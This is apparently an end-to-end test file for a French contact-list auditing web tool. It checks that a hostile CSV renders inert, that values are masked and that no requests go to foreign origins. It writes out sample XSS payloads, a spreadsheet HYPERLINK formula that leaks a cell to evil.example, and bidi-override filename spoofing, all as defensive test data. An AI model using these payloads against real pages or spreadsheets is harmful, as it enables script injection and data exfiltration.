// A hostile file renders inert, the example values are masked (and local only), and no
// network request leaves the page during an audit.
//
//   cd tests/e2e && TAMIS_BIN=/work/bin/tamis node --test hostile.test.mjs
//
// The fixture is tests/fixtures/hostile.csv (written by tests/fixtures/make.py): cells with
// `<script>`, `<img onerror>`, `<svg onload>`, `<iframe>`, `javascript:` and `data:` links,
// spreadsheet formulas, bidirectional overrides, a zero-width space, a header with markup and
// a 100,000-character cell. Its payloads would set `window.__tamisPwned` or open a dialog.
// The masking function (www/mask.js) is also tested here, in Node.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { FIXTURES, GOLDEN, auditFile, foreignRequests, launchBrowser, openPage, runCount, startServer, waitForEnd } from './helpers.mjs';
import { maskKind, maskValue, visible } from '../../www/mask.js';

const HOSTILE = join(FIXTURES, 'hostile.csv');
const golden = () => JSON.parse(readFileSync(join(GOLDEN, 'hostile.report.json'), 'utf8'));

let server;
let browser;

before(async () => {
  server = await startServer();
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/** Opens the page with a dialog recorder (every dialog is dismissed and counted). */
async function open(locale = 'fr-FR', more = {}) {
  const opened = await openPage(browser, server.origin, { locale, ...more });
  opened.dialogs = [];
  opened.page.on('dialog', (d) => {
    opened.dialogs.push(d.message());
    d.dismiss().catch(() => {});
  });
  await opened.page.locator('#wasm-sha256').waitFor({ timeout: 15_000 });
  return opened;
}

/** What the shadow DOM holds that could run or navigate: elements, on* attributes, links. */
function dangers(page) {
  return page.locator('tamis-audit').evaluate((host) => {
    const out = { elements: [], handlers: [], links: [], svg: [] };
    const walk = (root) => {
      for (const el of root.querySelectorAll('*')) {
        const tag = el.localName;
        if (['script', 'img', 'iframe', 'object', 'embed', 'frame', 'video', 'audio', 'base', 'meta'].includes(tag)) out.elements.push(tag);
        if (el.namespaceURI === 'http://www.w3.org/2000/svg' && !['svg', 'g', 'path', 'rect', 'line', 'text'].includes(tag)) out.svg.push(tag);
        for (const a of el.attributes) {
          if (/^on/i.test(a.name)) out.handlers.push(`${tag}[${a.name}]`);
          if (['href', 'src', 'xlink:href', 'action', 'formaction'].includes(a.name) && /^\s*(javascript|data|vbscript):/i.test(a.value)) out.links.push(`${tag}[${a.name}=${a.value}]`);
        }
        if (el.shadowRoot) walk(el.shadowRoot);
      }
    };
    walk(host.shadowRoot);
    return out;
  });
}

/** The text of the example values of one finding, in order. */
function exampleValues(page, code) {
  return page.locator(`li.finding[data-code="${code}"] .examples .ex-value`).allTextContents();
}

test('masking: emails, phones, names, postcodes, dates, and invisible characters', () => {
  assert.equal(maskValue('jean.dupont@orange.fr', 'email'), 'j***@orange.fr');
  assert.equal(maskValue('06 12 34 56 12', 'phone'), '06 ** ** ** 12');
  assert.equal(maskValue('+33 6 12 34 56 78', 'phone'), '+33 * ** ** ** 78');
  assert.equal(maskValue('Dupont', 'text'), 'D***');
  assert.equal(maskValue('Jean-Pierre Dupont', 'text'), 'J*** D***');
  assert.equal(maskValue('75002', 'postcode'), '75***');
  assert.equal(maskValue('1985-03-12', 'date'), '19**-**-**');
  assert.equal(maskValue('12', 'phone'), '**');
  assert.equal(maskValue('   ', 'text'), '');
  assert.equal(maskValue('<script>alert(1)</script>', 'text'), '<***');
  assert.equal(maskValue('pas-une-adresse', 'email'), 'p***');
  // A bidi override is shown as a code point, never applied, masked or not.
  assert.equal(visible('Dupont\u202egnp.exe'), 'Dupont\u27e8U+202E\u27e9gnp.exe');
  assert.equal(maskValue('\u202eevil', 'text'), '\u27e8***');
  assert.equal(visible('a\tb\r\nc\u200bd'), 'a\u21e5b\u21b5c\u27e8U+200B\u27e9d');
  // The roles pick the masking.
  assert.equal(maskKind('email'), 'email');
  assert.equal(maskKind('mobile'), 'phone');
  assert.equal(maskKind('postcode'), 'postcode');
  assert.equal(maskKind('collection_date'), 'date');
  assert.equal(maskKind('siret'), 'digits');
  assert.equal(maskKind('last_name'), 'text');
  // The masked form never holds more than a word's first letter and the domain.
  for (const v of ['Camille Martin', 'camille.martin@exemple.fr', '06 39 98 20 01']) {
    const m = maskValue(v, maskKind(v.includes('@') ? 'email' : /\d/.test(v) ? 'phone' : 'last_name'));
    assert.ok(!m.includes('amille') && !m.includes('artin') && !m.includes('98 20'), m);
  }
});

test('a hostile file renders inert: no script, no dialog, no active element or link, values as text', async () => {
  const { context, page, log, dialogs } = await open();
  try {
    let event = null;
    await page.locator('tamis-audit').evaluate((el) => {
      el.options = {}; // the golden's options (no audit date)
      el.addEventListener('tamis-report', (e) => {
        window.__tamisEvent = { keys: Object.keys(e.detail), json: JSON.stringify(e.detail) };
      });
    });
    const json = await auditFile(page, HOSTILE);
    const report = JSON.parse(json);
    assert.equal(report.input.rows, 6);
    event = await page.evaluate(() => window.__tamisEvent);

    // Nothing ran.
    assert.deepEqual(dialogs, [], 'no dialog');
    assert.equal(await page.evaluate(() => window.__tamisPwned), undefined, 'no payload ran');
    assert.deepEqual(await dangers(page), { elements: [], handlers: [], links: [], svg: [] });
    assert.equal(await page.evaluate(() => document.querySelectorAll('script').length), 1, 'only app.js in the page');

    // The preview shows the cells as text, byte for byte (the long one cut by the core's cap).
    const row1 = await page.locator('#rows tbody tr').nth(0).locator('td').allTextContents();
    assert.equal(row1[2], '<script>window.__tamisPwned=1;alert(1)</script>');
    assert.equal(row1[5], 'javascript:window.__tamisPwned=1');
    assert.equal(row1[6], '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")');
    const header = await page.locator('#columns tbody tr').nth(7).locator('td').nth(1).textContent();
    assert.equal(header, '<img src=x onerror=window.__tamisPwned=1>Note');

    // The long cell does not widen the page.
    const widths = await page.evaluate(() => ({
      page: document.documentElement.scrollWidth,
      viewport: window.innerWidth,
      widget: document.querySelector('tamis-audit').getBoundingClientRect().width,
    }));
    assert.ok(widths.page <= widths.viewport, `page ${widths.page}px wider than the viewport ${widths.viewport}px`);
    assert.ok(widths.widget <= widths.viewport);
    const longest = await page.locator('tamis-audit').evaluate((host) =>
      Math.max(...[...host.shadowRoot.querySelectorAll('td, li, p, span, bdi, dd')].map((e) => e.getBoundingClientRect().width)),
    );
    assert.ok(longest <= widths.viewport, `an element is ${longest}px wide`);

    // Findings are grouped; the example values are masked by default.
    const groups = await page.locator('#findings .finding-group').evaluateAll((ss) => ss.map((s) => [s.dataset.group, Number(s.dataset.count)]));
    const want = golden();
    assert.equal(json, readFileSync(join(GOLDEN, 'hostile.report.json'), 'utf8'), 'the page audits as the golden');
    assert.equal(groups.reduce((n, [, c]) => n + c, 0), want.findings.reduce((n, f) => n + f.count, 0));
    assert.ok(groups.some(([g]) => g === 'content'), 'cell findings in the content group');
    assert.deepEqual(await exampleValues(page, 'email.invalid'), ['<***@exemple.fr', 'z***@exemple.fr', '"***@exemple.fr']);
    assert.deepEqual(await exampleValues(page, 'phone.fiction'), ['06 ** ** ** 01', '06 ** ** ** 02', '06 ** ** ** 03', '06 ** ** ** 04', '06 ** ** ** 06']);
    assert.deepEqual(await exampleValues(page, 'cell.control_char'), ['D***', '\u27e8***']);
    assert.equal(await page.locator('#show-values').getAttribute('aria-pressed'), 'false');

    // Shown: as text, invisible characters made visible, the long cell cut.
    await page.locator('#show-values').click();
    assert.equal(await page.locator('#show-values').getAttribute('aria-pressed'), 'true');
    const emails = await exampleValues(page, 'email.invalid');
    assert.equal(emails[0], '<img src=x onerror=alert(1)>@exemple.fr');
    assert.equal(emails[1], 'zoe\u27e8U+200B\u27e9.lefevre@exemple.fr');
    assert.equal(emails[2], '"><script>alert(1)</script>@exemple.fr');
    assert.deepEqual(await exampleValues(page, 'cell.control_char'), ['Dupont\u27e8U+202E\u27e9gnp.exe', '\u27e8U+202D\u27e9Lefèvre\u27e8U+2069\u27e9']);
    const formulas = await exampleValues(page, 'cell.formula');
    assert.equal(formulas[0], '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")');
    const values = await page.locator('.ex-value').allTextContents();
    assert.ok(values.every((v) => !/[\u202a-\u202e\u2066-\u2069\u200b]/.test(v)), 'no raw bidi or zero-width character');
    assert.ok(values.every((v) => v.length <= 121), 'values are cut by the core (120 characters and \u2026)');
    assert.deepEqual(await dangers(page), { elements: [], handlers: [], links: [], svg: [] });
    assert.equal(await page.evaluate(() => window.__tamisPwned), undefined);

    // The values never reach the report nor its event.
    for (const leak of ['HYPERLINK', 'javascript:', 'gnp.exe', 'camille.martin', '06 39 98']) {
      assert.ok(!json.includes(leak), `the report holds ${leak}`);
      assert.ok(!event.json.includes(leak), `the tamis-report event holds ${leak}`);
    }
    assert.ok(!event.keys.some((k) => /value|example|cell/i.test(k)), `event keys: ${event.keys}`);

    // English: the same, re-rendered in place (values still shown, still inert).
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'en'));
    assert.equal(await page.locator('#report-h').textContent(), 'Report');
    assert.match(await page.locator('li.finding[data-code="email.invalid"] .finding-summary').textContent(), /invalid/i);
    assert.equal(await page.locator('#show-values').getAttribute('aria-pressed'), 'true');
    assert.equal((await exampleValues(page, 'email.invalid'))[0], '<img src=x onerror=alert(1)>@exemple.fr');
    assert.deepEqual(await dangers(page), { elements: [], handlers: [], links: [], svg: [] });
    assert.deepEqual(dialogs, []);
    assert.equal(await page.evaluate(() => window.__tamisPwned), undefined);
    assert.deepEqual(foreignRequests(log, server.origin), []);
    assert.deepEqual(log.pageErrors, []);
    assert.deepEqual(log.csp, []);
  } finally {
    await context.close();
  }
});

test('no network request during an audit, a re-run, the values toggle and a language switch', async () => {
  // Requests not finished yet (named when the page does not settle).
  const pending = new Map();
  const { context, page, log } = await open('fr-FR', {
    beforeGoto: (ctx) => {
      ctx.on('request', (r) => pending.set(r, r.url()));
      ctx.on('requestfinished', (r) => pending.delete(r));
      ctx.on('requestfailed', (r) => pending.delete(r));
    },
  });
  try {
    // Loaded: the page, its modules and styles, the worker and the wasm, and the site's
    // service worker (app.js registers it after the load; it fetches its cache then).
    await page.evaluate(() =>
      'serviceWorker' in navigator
        ? Promise.race([navigator.serviceWorker.ready.then(() => true), new Promise((r) => setTimeout(() => r(false), 5000))])
        : false,
    );
    await page.waitForLoadState('networkidle', { timeout: 15_000 }).catch((e) => {
      throw new Error(`the page does not settle; requests still pending: ${[...pending.values()].join(', ')}\n${e.message}`);
    });
    const loaded = log.requests.length;
    assert.ok(log.requests.some((u) => u.endsWith('/pkg/tamis_bg.wasm')));

    await auditFile(page, HOSTILE);
    await auditFile(page, join(FIXTURES, 'duplicates.csv'));
    // A campaign change audits the same file again, in the same worker.
    const runs = await runCount(page);
    await page.locator('#c-channel').selectOption('sms');
    assert.equal(await waitForEnd(page, runs), 'done');
    await page.locator('#show-values').click();
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'en'));
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'fr'));
    await page.locator('#tab-owner').click();
    await page.locator('#tab-buyer').click();
    await page.waitForTimeout(300);

    assert.deepEqual(log.requests.slice(loaded), [], 'requests after the page load');
    for (const u of log.requests) assert.equal(new URL(u).origin, server.origin, `a request to another origin: ${u}`);
    assert.deepEqual(foreignRequests(log, server.origin), []);
    assert.deepEqual(log.serviceWorkers.filter((u) => u !== `${server.origin}/sw.js`), [], 'no service worker but the site\'s');
    assert.deepEqual(log.pageErrors, []);
    assert.deepEqual(log.csp, []);
    assert.deepEqual(log.consoleErrors, []);
  } finally {
    await context.close();
  }
});

test('the new report elements match the report: gauge, funnel and quality bars, groups, examples, clusters', async () => {
  const { context, page, log } = await open();
  try {
    const report = JSON.parse(await auditFile(page, join(FIXTURES, 'duplicates.csv')));
    // The gauge says the score, for screen readers too.
    const gauge = page.locator('#score-gauge');
    assert.equal(await gauge.getAttribute('data-value'), String(report.score.value));
    assert.match(await gauge.getAttribute('aria-label'), new RegExp(`${report.score.value} sur 100, classe ${report.score.grade}`));
    assert.equal(await page.locator('#score-reasons li').count(), report.score.reasons.length);
    // One bar per score part, funnel stage and quality cell (filled, valid).
    assert.equal(await page.locator('#score-parts svg.bar-svg').count(), Object.keys(report.score.parts).length);
    assert.equal(await page.locator('#funnel svg.bar-svg').count(), report.campaign.funnel.length);
    assert.equal(await page.locator('#quality svg.bar-svg').count(), 2 * report.qualification.length);
    // The quality table names each column's top problems by their rule's summary (the words
    // of the findings list), with their count.
    const summaries = Object.fromEntries(
      await page.locator('#findings li.finding').evaluateAll((lis) =>
        lis.map((li) => [li.dataset.code, li.querySelector('.finding-summary').textContent]),
      ),
    );
    let named = 0;
    for (const q of report.qualification) {
      const cells = await page.locator(`#quality tr[data-column="${q.column}"] .problem`).evaluateAll((ps) =>
        ps.map((p) => [p.dataset.code, p.querySelector('.problem-summary').textContent, p.querySelector('.problem-count').textContent]),
      );
      assert.deepEqual(
        cells,
        q.problems.slice(0, 3).map((p) => [p.code, summaries[p.code], p.count.toLocaleString('fr-FR')]),
        q.name,
      );
      named += cells.length;
    }
    assert.ok(named > 0, 'the fixture has column problems');
    // Every finding once, in its category's group, with its examples (and "n more").
    const shown = await page.locator('#findings li.finding').evaluateAll((lis) =>
      lis.map((li) => [li.dataset.code, li.closest('.finding-group').dataset.group, li.querySelectorAll('.examples > li.example:not(.more)').length]),
    );
    const company = new Set(['siren', 'vat', 'naf']);
    const group = (c) => (company.has(c) ? 'company' : c === 'cell' ? 'content' : c === 'opposition' ? 'campaign' : c);
    assert.deepEqual(
      shown.sort(),
      report.findings.map((f) => [f.code, group(f.category), f.examples.length]).sort(),
    );
    for (const s of await page.locator('#findings .finding-group').evaluateAll((ss) => ss.map((s) => [s.dataset.group, Number(s.dataset.count)]))) {
      const want = report.findings.filter((f) => group(f.category) === s[0]).reduce((n, f) => n + f.count, 0);
      assert.equal(s[1], want, s[0]);
    }
    // The summary table: one row per group, its findings by severity and its occurrences.
    const table = await page.locator('#finding-summary tbody tr').evaluateAll((trs) =>
      trs.map((tr) => [tr.dataset.group, ...[...tr.querySelectorAll('td')].map((td) => Number(td.dataset.value))]),
    );
    const groupNames = [...new Set(shown.map(([, g]) => g))];
    assert.deepEqual(table.map(([g]) => g).sort(), groupNames.sort());
    for (const [g, errors, warnings, infos, n] of table) {
      const fs = report.findings.filter((f) => group(f.category) === g);
      const sev = (s) => fs.filter((f) => f.severity === s).length;
      assert.deepEqual([errors, warnings, infos, n], [sev('error'), sev('warning'), sev('info'), fs.reduce((k, f) => k + f.count, 0)], g);
    }
    // The explanation of each rule, in French, then in English after a switch.
    const summary = () => page.locator('li.finding[data-code="dup.exact"] .finding-summary').textContent();
    const what = () => page.locator('li.finding[data-code="dup.exact"] .explain dd').first().textContent();
    const fr = [await summary(), await what()];
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'en'));
    const en = [await summary(), await what()];
    assert.notEqual(fr[0], en[0]);
    assert.notEqual(fr[1], en[1]);
    assert.ok(fr[1].length > 20 && en[1].length > 20);
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'fr'));
    assert.equal(await summary(), fr[0]);
    // Duplicates clusters: what matched, and the masked rows the page has.
    assert.equal(await page.locator('#dup-examples > li').count(), report.duplicates.examples.length);
    const first = page.locator('#dup-examples > li').first();
    assert.match(await first.locator('.matched').textContent(), /e-mail : même adresse canonique/);
    assert.deepEqual(await first.locator('.cluster-values [data-row="4"] .ex-value').allTextContents(), ['M***', 'C***@GMAIL.com']);
    // Seeds vs traps, checklist, reminders are there.
    assert.equal(await page.locator('#seeds-suspects').getAttribute('data-value'), String(report.seeds_and_traps.seed_suspects));
    assert.equal(await page.locator('#traps-risk').getAttribute('data-value'), String(report.seeds_and_traps.trap_risk));
    assert.equal(await page.locator('#checklist li').count(), report.campaign.checklist.length);
    assert.equal(await page.locator('#reminders li').count(), report.campaign.reminders.length);
    assert.deepEqual(log.pageErrors, []);
  } finally {
    await context.close();
  }
});

test('a language switch keeps the campaign form, the chosen files and the tab', async () => {
  const { context, page, log } = await open();
  try {
    await page.locator('#c-channel').selectOption('postal');
    await page.locator('#c-cpm').fill('120');
    await page.locator('#c-sector').check();
    await page.locator('#c-own').setInputFiles(join(FIXTURES, 'duplicates.csv'));
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'en'));
    assert.equal(await page.locator('#campaign-h').textContent(), 'Your campaign');
    assert.equal(await page.locator('#c-channel').inputValue(), 'postal');
    assert.equal(await page.locator('#c-cpm').inputValue(), '120');
    assert.ok(await page.locator('#c-sector').isChecked());
    assert.match(await page.locator('#c-own-name').textContent(), /duplicates\.csv/);
    await page.locator('#tab-owner').click();
    await page.locator('tamis-audit').evaluate((el) => el.setAttribute('lang', 'fr'));
    assert.ok(await page.locator('#panel-owner').isVisible(), 'the owner tab stays selected');
    await page.locator('#tab-buyer').click();
    // The kept files and options are used: the audit matches the customer file.
    const report = JSON.parse(await auditFile(page, HOSTILE));
    assert.equal(report.campaign.channel, 'postal');
    assert.notEqual(report.overlap, null, 'the customer file was kept');
    assert.deepEqual(log.pageErrors, []);
  } finally {
    await context.close();
  }
});
